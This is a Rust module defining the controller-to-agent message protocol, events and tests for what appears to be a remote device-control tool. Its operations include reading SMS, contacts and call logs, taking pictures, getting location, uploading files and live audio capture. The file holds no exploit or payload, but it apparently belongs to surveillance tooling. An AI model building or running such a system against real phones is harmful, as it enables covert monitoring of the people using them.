use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// Operation names understood by the stock agent. The dispatcher itself treats
/// operation names as opaque strings; these constants exist so the stream
/// manager and the filesystem navigator can recognize their own control
/// responses when they come back.
pub const OP_TAKE_PICTURE: &str = "take_picture";
pub const OP_LIST_FILES: &str = "list_files";
pub const OP_GET_LOCATION: &str = "get_location";
pub const OP_UPLOAD_FILE: &str = "upload_file";
pub const OP_GET_SMS_LIST: &str = "get_sms_list";
pub const OP_GET_CONTACTS_LIST: &str = "get_contacts_list";
pub const OP_GET_CALL_LOGS: &str = "get_call_logs";
pub const OP_RECORD_AUDIO: &str = "record_audio";
pub const OP_START_LIVE_AUDIO: &str = "start_live_audio";
pub const OP_STOP_LIVE_AUDIO: &str = "stop_live_audio";

/// Messages sent from an agent to the controller over text frames.
/// Binary frames are not part of this enum: a binary frame is always a raw
/// stream chunk for the sender's active capture stream.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum AgentMessage {
    /// Claim a device identity for this connection.
    Register {
        device_id: String,
        #[serde(default)]
        device_name: Option<String>,
        #[serde(default)]
        platform: Option<String>,
    },
    /// Keep-alive; bumps `last_seen` on the session.
    Heartbeat,
    /// Reply to a previously dispatched command.
    Response {
        operation: String,
        correlation_id: String,
        status: CommandStatus,
        #[serde(default)]
        payload: Value,
    },
}

/// Messages sent from the controller to an agent.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum ControllerMessage {
    /// Sent on connect and whenever an unrecognized handle shows up.
    RegistrationPrompt { message: String },
    /// Registration accepted; echoes the identifier the agent claimed.
    RegistrationAck {
        message: String,
        conn_id: String,
        device_id: String,
    },
    /// Registration rejected.
    RegistrationError { message: String },
    /// A correlated operation request.
    Command {
        operation: String,
        correlation_id: String,
        args: Value,
    },
}

#[derive(Debug, Clone, Copy, Serialize, Deserialize, PartialEq, Eq)]
#[serde(rename_all = "snake_case")]
pub enum CommandStatus {
    Success,
    Error,
}

/// Events fanned out to passive observers (the presentation layer) over the
/// observer feed. Lagging observers lose events; nothing in the protocol
/// waits on them.
#[derive(Debug, Clone, Serialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum ControllerEvent {
    DeviceRegistered {
        device_id: String,
        conn_id: String,
        display_name: String,
        platform: String,
    },
    DeviceDisconnected {
        device_id: Option<String>,
        conn_id: String,
    },
    CommandDispatched {
        device_id: String,
        operation: String,
        correlation_id: String,
    },
    CommandResolved {
        device_id: String,
        operation: String,
        correlation_id: String,
        status: CommandStatus,
        payload: Value,
        /// False when the correlation id matched no pending command (for
        /// example a reply to a command issued before a controller restart).
        matched: bool,
    },
    StreamStatus {
        device_id: String,
        state: String,
    },
    StreamChunk {
        device_id: String,
        bytes: usize,
    },
    DirectoryListed {
        device_id: String,
        path: String,
        entries: usize,
    },
    TagUpdated {
        device_id: String,
        tag: String,
    },
}

/// Timestamp rendering shared by the registry and the HTTP views.
pub fn format_timestamp(ts: DateTime<Utc>) -> String {
    ts.to_rfc3339()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn agent_message_round_trip() {
        let text = r#"{"type":"register","device_id":"dev1","device_name":"Pixel","platform":"android"}"#;
        let msg: AgentMessage = serde_json::from_str(text).unwrap();
        match msg {
            AgentMessage::Register {
                device_id,
                device_name,
                platform,
            } => {
                assert_eq!(device_id, "dev1");
                assert_eq!(device_name.as_deref(), Some("Pixel"));
                assert_eq!(platform.as_deref(), Some("android"));
            }
            other => panic!("unexpected message: {other:?}"),
        }
    }

    #[test]
    fn response_defaults_payload_to_null() {
        let text =
            r#"{"type":"response","operation":"get_location","correlation_id":"x","status":"success"}"#;
        let msg: AgentMessage = serde_json::from_str(text).unwrap();
        match msg {
            AgentMessage::Response {
                status, payload, ..
            } => {
                assert_eq!(status, CommandStatus::Success);
                assert!(payload.is_null());
            }
            other => panic!("unexpected message: {other:?}"),
        }
    }

    #[test]
    fn command_serializes_with_tag() {
        let cmd = ControllerMessage::Command {
            operation: OP_GET_LOCATION.to_string(),
            correlation_id: "get_location_1".to_string(),
            args: serde_json::json!({}),
        };
        let json = serde_json::to_value(&cmd).unwrap();
        assert_eq!(json["type"], "command");
        assert_eq!(json["operation"], "get_location");
    }
}
